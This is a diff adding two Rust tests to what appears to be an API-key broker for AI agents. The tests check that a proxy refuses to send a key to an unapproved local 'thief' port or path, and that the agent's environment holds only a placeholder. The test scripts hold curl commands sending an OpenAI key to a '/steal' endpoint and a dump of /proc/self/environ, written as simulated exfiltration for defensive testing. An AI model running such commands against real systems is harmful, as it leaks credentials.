@@ -548,3 +548,60 @@ fn the_broker_speaks_http2_to_a_provider_that_offers_it() {
     assert_eq!(got["version"], "2.0");
     assert_eq!(got["authorization"], format!("Bearer {key}"));
 }
+
+#[test]
+fn a_key_goes_only_to_its_base_urls_own_port_and_paths() {
+    if !require(have("curl"), "curl", "apt-get install curl") {
+        return;
+    }
+    let (s, key, _) = vault();
+    let gateway = Fake::start(false, None);
+    let thief = Fake::start(false, None);
+    // A local gateway (LiteLLM, a router): plain http on loopback, under /v1 only.
+    s.set_config("default", "OPENAI_BASE_URL", &format!("http://127.0.0.1:{}/v1", gateway.port));
+    let codes = s.path("codes");
+    let script = format!(
+        "curl -s -o /dev/null -w '%{{http_code}} ' --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:{thief}/steal -H \"Authorization: Bearer $OPENAI_API_KEY\" >{codes}; \
+         curl -s -o /dev/null -w '%{{http_code}} ' --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:{gw}/other/steal -H \"Authorization: Bearer $OPENAI_API_KEY\" >>{codes}; \
+         curl -s -o /dev/null -w '%{{http_code}}' --noproxy '' -x \"$HTTP_PROXY\" http://127.0.0.1:{gw}/v1/models -H \"Authorization: Bearer $OPENAI_API_KEY\" >>{codes}",
+        thief = thief.port,
+        gw = gateway.port,
+        codes = codes.display()
+    );
+    let out = brokered(&s, &gateway, &["--egress", "open"], &["sh", "-c", &script]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    // Another port of the same host (a listener the agent opened), and another path of
+    // the gateway: refused, though egress is open; the base URL itself: the key.
+    assert_eq!(std::fs::read_to_string(&codes).unwrap(), "403 403 200");
+    assert!(thief.requests().is_empty(), "the thief's port got a request");
+    let got = gateway.requests();
+    assert!(!got.iter().any(|r| r["path"] == "/other/steal"));
+    assert_eq!(got.last().unwrap()["headers"]["authorization"], format!("Bearer {key}"));
+    let entries = audit(&s);
+    let refused: Vec<&Value> = entries.iter().filter(|e| e["access"] == "refused").collect();
+    assert!(refused.iter().any(|e| e["host"] == format!("127.0.0.1:{}", thief.port)), "{refused:?}");
+}
+
+#[test]
+fn a_template_entry_holds_the_placeholder_of_the_key_it_references() {
+    if !require(have("curl"), "curl", "apt-get install curl") {
+        return;
+    }
+    let (s, key, _) = vault();
+    let fake = Fake::start(true, None);
+    let template = s.path("agent.env");
+    std::fs::write(&template, "AUTH_HEADER=Bearer latchkey://default/OPENAI_API_KEY\n").unwrap();
+    let dump = s.path("environ");
+    let script = format!(
+        "tr '\\0' '\\n' </proc/self/environ >{}; curl -sS https://api.openai.com/v1/models -H \"Authorization: $AUTH_HEADER\" >/dev/null",
+        dump.display()
+    );
+    let out = brokered(&s, &fake, &["--env-file", template.to_str().unwrap()], &["sh", "-c", &script]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    assert!(!stderr.contains("AUTH_HEADER ("), "AUTH_HEADER is carried: {stderr}");
+    let environ = std::fs::read_to_string(&dump).unwrap();
+    assert!(!environ.contains(&key), "the template entry holds the real key");
+    assert!(var(&environ, "AUTH_HEADER").starts_with("Bearer sk-proj-"));
+    assert_eq!(fake.requests().last().unwrap()["headers"]["authorization"], format!("Bearer {key}"));
+}
